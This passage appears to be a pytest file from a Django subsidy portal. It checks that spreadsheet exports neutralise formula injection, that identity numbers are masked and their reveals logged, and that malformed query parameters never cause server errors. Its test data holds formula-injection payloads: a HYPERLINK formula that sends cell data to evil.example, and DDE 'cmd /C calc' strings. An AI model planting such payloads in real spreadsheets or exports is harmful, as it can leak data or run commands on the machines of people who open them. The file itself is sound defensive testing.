        assert d["disposition"].endswith('.pdf"'), (label, d["disposition"])


# --- exports: formula injection -------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PREFIXES = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def csv_problems(content: bytes) -> list[str]:
    """Cells a spreadsheet would run: text starting with a formula character (a real number such
    as -12.50 is fine: it is a number)."""
    import csv
    import io

    text = content.decode("utf-8").lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    return [c for c in cells if c.startswith(PREFIXES) and not NUMBER.match(c)]


def xlsx_cells(content: bytes) -> list:
    import io

    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def xlsx_problems(content: bytes) -> list[str]:
    problems = []
    for cell in xlsx_cells(content):
        if cell.data_type == "f":
            problems.append(f"{cell.coordinate}: formula {cell.value!r}")
        elif isinstance(cell.value, str) and cell.value.startswith(PREFIXES):
            problems.append(f"{cell.coordinate}: {cell.value!r}")
    return problems


def test_the_checks_can_fail():
    import io

    from openpyxl import Workbook

    assert csv_problems(b"a,=1+1\r\n") == ["=1+1"] and csv_problems(b"a,-12.50\r\n") == []
    book = Workbook()
    book.active.append(["=1+1", "@x"])
    out = io.BytesIO()
    book.save(out)
    assert len(xlsx_problems(out.getvalue())) == 2


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_subsidy_export_writer_neutralises_text_and_keeps_numbers(fmt):
    from decimal import Decimal

    from subsidies import exports

    rows = [[value, Decimal("-12.50"), -3, Decimal("60000.00")] for value in FORMULAS]
    content = exports.write(rows, ["Name", "Amount", "Count", "Total"], fmt)
    if fmt == "csv":
        assert csv_problems(content) == []
        assert "-12.50" in content.decode() and "'=HYPERLINK" in content.decode()
    else:
        assert xlsx_problems(content) == []
        numbers = [c for c in xlsx_cells(content) if c.data_type == "n" and c.value is not None]
        assert {float(c.value) for c in numbers} == {-12.5, -3.0, 60000.0}  # real numbers stay numbers
        texts = [c.value for c in xlsx_cells(content) if isinstance(c.value, str)]
        assert sum(t.startswith("'") for t in texts) == len(FORMULAS)


@pytest.mark.parametrize("formula", FORMULAS)
def test_every_export_neutralises_a_hostile_name(formula, world, clients, db):
    """The applicant's name in the payment batch and claims exports, the names of a base's city and
    district (its region's) in the public statistics download: in every cell of every format, never a live formula."""
    from incubators.models import Base
    from subsidies.models import ExportJob
    from subsidies.reminders import export_build

    youth = world.users["youth"]
    type(youth).objects.filter(pk=youth.pk).update(full_name=formula)
    base = Base.objects.select_related("region__parent").get(pk=world.objects["base_a"].pk)
    for place in (base.region, base.region.parent):  # the base's district and city name the groups
        for field in ("name", "name_zh_hant", "name_zh_hans", "name_en"):
            setattr(place, field, formula)
        place.save()  # a saved region moves the statistics cache's version
    files = {}
    for fmt in ("csv", "xlsx"):
        response = clients["reviewer"].get(f"/en/subsidies/batches/{world.objects['batch'].pk}/export.{fmt}")
        assert response["Content-Disposition"].startswith("attachment")
        files[f"batch.{fmt}"] = response.content
        job = ExportJob.objects.create(requested_by=world.users["reviewer"], kind=f"claims-{fmt}")
        export_build(job_id=job.pk)
        job.refresh_from_db()
        files[f"claims.{fmt}"] = job.file.read()
        response = clients["anon"].get(f"/en/bases/statistics/download.{fmt}")
        assert response["Content-Disposition"].startswith("attachment")
        files[f"statistics.{fmt}"] = response.content
    for name, content in files.items():
        problems = csv_problems(content) if name.endswith("csv") else xlsx_problems(content)
        assert not problems, (name, problems)
        cells = content.decode("utf-8") if name.endswith("csv") else " ".join(str(c.value) for c in xlsx_cells(content))
        # An XML reader takes a carriage return for a line feed (XML 1.0, end-of-line handling)
        # unless the writer escaped it, which openpyxl does only when lxml is installed.
        wanted = {"'" + formula.strip("\r")[:8], "'" + formula[:8], "'" + formula.replace("\r", "\n")[:8]}
        assert any(value in cells for value in wanted), (name, "the value is not there")


# --- identity numbers: where they are kept and who sees them (data minimisation) --------------------

DEMO_ID = "A1234563"  # the demo youth's HKID, A123456(3)
KEPT_IN = {("subsidies_applicantprofile", "identity_number"), ("subsidies_claim", "identity_number")}


def _columns_holding(value: str) -> set[tuple[str, str]]:
    from django.apps import apps
    from django.db import connection, models

    found = set()
    with connection.cursor() as cursor:
        for model in apps.get_models():
            if not model._meta.managed or model._meta.proxy:
                continue
            for f in model._meta.concrete_fields:
                if isinstance(f, models.CharField | models.TextField | models.JSONField):
                    table, column = model._meta.db_table, f.column
                    cursor.execute(
                        f'SELECT 1 FROM "{table}" WHERE "{column}"::text LIKE %s LIMIT 1',  # noqa: S608
                        [f"%{value}%"],
                    )
                    if cursor.fetchone():
                        found.add((table, column))
    return found


def test_identity_numbers_are_kept_in_two_columns_only(world, db):
    """After the demo (claims in every state, notifications, outbox, transitions, exports), the
    number is in the applicant's profile and on each submitted claim, nowhere else: not in a
    notification, an audit note, an outbox payload or a history row. See docs/RELIABILITY.md for
    why the copy on every claim is more than needed."""
    from subsidies.models import Claim

    assert _columns_holding(DEMO_ID) == KEPT_IN
    assert Claim.objects.filter(identity_number=DEMO_ID).count() >= 3  # copied onto every submitted claim


def test_identity_numbers_are_masked_for_staff_until_revealed(world, clients, db):
    from subsidies import rules
    from subsidies.models import IdentityView

    claim = world.objects["claim_submitted"]
    assert claim.identity_number == DEMO_ID
    masked = rules.mask_identity(DEMO_ID)
    pages = {
        "reviewer": [
            f"/en/subsidies/claims/{claim.pk}/",
            "/en/subsidies/review/",
            f"/en/subsidies/batches/{world.objects['batch'].pk}/",
            f"/api/v1/subsidies/claims/{claim.pk}/",
            "/api/v1/subsidies/claims/",
        ],
        "approver": [f"/en/subsidies/claims/{claim.pk}/", f"/api/v1/subsidies/claims/{claim.pk}/"],
        "admin": [
            f"/en/subsidies/claims/{claim.pk}/",
            f"/en/admin/subsidies/claim/{claim.pk}/change/",
            "/en/admin/subsidies/claim/",
        ],
        "youth": [f"/en/subsidies/claims/{claim.pk}/", f"/api/v1/subsidies/claims/{claim.pk}/"],
    }
    for role, urls in pages.items():
        for url in urls:
            response = clients[role].get(url)
            assert response.status_code == 200, (role, url, response.status_code)
            text = response.content.decode()
            assert "A123456" not in text, (role, url, "the full number is shown")
            # the lists and the admin leave it out; the youth's own page does not show it at all
            if "/admin/" not in url and url != "/api/v1/subsidies/claims/" and (role, url[:4]) != ("youth", "/en/"):
                assert masked in text or json.dumps(masked)[1:-1] in text, (role, url, "the masked number is missing")
    assert not IdentityView.objects.filter(claim=claim).exists()

    # Revealing is a POST, for staff only, and each one is recorded.
    for role in ("youth", "youth_b", "mentor", "operator"):
        sent = badinput.send(clients[role], "post", f"/en/subsidies/claims/{claim.pk}/identity/")
        assert sent.status in (403, 404) and "A123456" not in sent.text and not sent.written, role
    assert clients["reviewer"].get(f"/en/subsidies/claims/{claim.pk}/identity/").status_code == 405
    response = clients["reviewer"].post(f"/en/subsidies/claims/{claim.pk}/identity/")
    assert response.status_code == 200 and DEMO_ID in response.content.decode()
    assert response["Cache-Control"] == "no-store, private"
    view = IdentityView.objects.get(claim=claim)
    assert view.viewer == world.users["reviewer"]
    clients["approver"].post(f"/en/subsidies/claims/{claim.pk}/identity/")
    assert IdentityView.objects.filter(claim=claim).count() == 2


def test_exports_carry_masked_identity_numbers(world, clients, db):
    from subsidies.models import ExportJob
    from subsidies.reminders import export_build

    job = ExportJob.objects.create(requested_by=world.users["reviewer"], kind="claims-csv")
    export_build(job_id=job.pk)
    job.refresh_from_db()
    files = {
        "claims": job.file.read().decode("utf-8"),
        "batch": clients["reviewer"]
        .get(f"/en/subsidies/batches/{world.objects['batch'].pk}/export.csv")
        .content.decode("utf-8"),
    }
    for name, text in files.items():
        assert "A123456" not in text and "4563" in text, name


# --- query strings: the GET forms (filters, search) and the API's query parameters ---------------

GET_PAYLOADS = {
    "huge number": "9" * 30,
    "negative": "-1",
    "not a date": "2026-13-45",
    "NUL": badinput.NUL,
    **badinput.ODD_VALUES,  # a Unicode digit, 1E+30, 9999-12-31
}


def _query_params() -> dict[str, set[str]]:
    from drf_spectacular.generators import SchemaGenerator

    schema = SchemaGenerator().get_schema(request=None, public=True)
    return {
        path: {p["name"] for p in op.get("parameters", []) if p.get("in") == "query"} | {"page", "lang"}
        for path, ops in schema["paths"].items()
        for method, op in ops.items()
        if method == "get"
    }


READERS = ("reviewer", "youth", "mentor", "operator", "anon", "admin")
GET_ROUTES = sorted(
    r for r in EXPECT if EXPECT[r].GET and any(harness.parse(EXPECT[r].GET)[x] == "2xx" for x in READERS)
)


@pytest.mark.parametrize("route", GET_ROUTES)
def test_query_strings_never_cause_a_server_error(route, world, clients, db):
    """Every parameter of every GET form a page shows (and of the API's schema) with a NUL, a
    30-digit number, a negative and an impossible date: never a 500."""
    classes = harness.parse(EXPECT[route].GET)
    role = next(r for r in READERS if classes[r] == "2xx")
    url = url_of(route, world)
    if harness.is_api(route):
        names = _query_params().get("/" + re.sub(r"<(?:\w+:)?(\w+)>", r"{\1}", route), {"page"})
    else:
        page = clients[role].get(url)
        html = page.content.decode() if "html" in page.get("Content-Type", "") and not page.streaming else ""
        names = {n for f in badinput.forms_on(html, url, method="get") if f.action == url for n in f.fields} | {"page"}
    wrong = []
    for name in sorted(names):
        for label, payload in GET_PAYLOADS.items():
            response = clients[role].get(url, {name: payload})
            if response.status_code >= 500:
                wrong.append(f"{name}={label}: {response.status_code}")
    undeclared = sorted(READ_NAMES - names)
    for label, payload in badinput.UNDECLARED_VALUES.items():  # the parameters not declared here
        response = clients[role].get(url, dict.fromkeys(undeclared, payload))
        if response.status_code >= 500:
            wrong.append(f"undeclared parameters={label}: {response.status_code}")
    assert not wrong, "\n".join(wrong)


@pytest.mark.parametrize(
    ("url", "params"),
    [
        ("/api/v1/incubators/bases/", ("q", "city", "district")),
        ("/api/v1/subsidies/claims/", ("scheme", "state")),
    ],
)
def test_api_filters_refuse_a_nul_by_name(url, params, clients, db):
    """These were 500s (the NUL reached PostgreSQL): now a 400 naming the parameter, in the
    request's language."""
    from portal.api import UNSAFE_TEXT

    for name in params:
        for lang in LANGS:
            response = clients["reviewer"].get(url, {name: badinput.NUL, "lang": lang})
            assert response.status_code == 400 and response.json() == {name: [_in(lang, UNSAFE_TEXT)]}, name


def test_the_review_queue_takes_any_number_of_days(clients, db):
    """min_days=10**30 overflowed the date arithmetic (a 500): now the filter form refuses it."""
    response = clients["reviewer"].get("/en/subsidies/review/", {"min_days": "9" * 30})
    assert response.status_code == 200
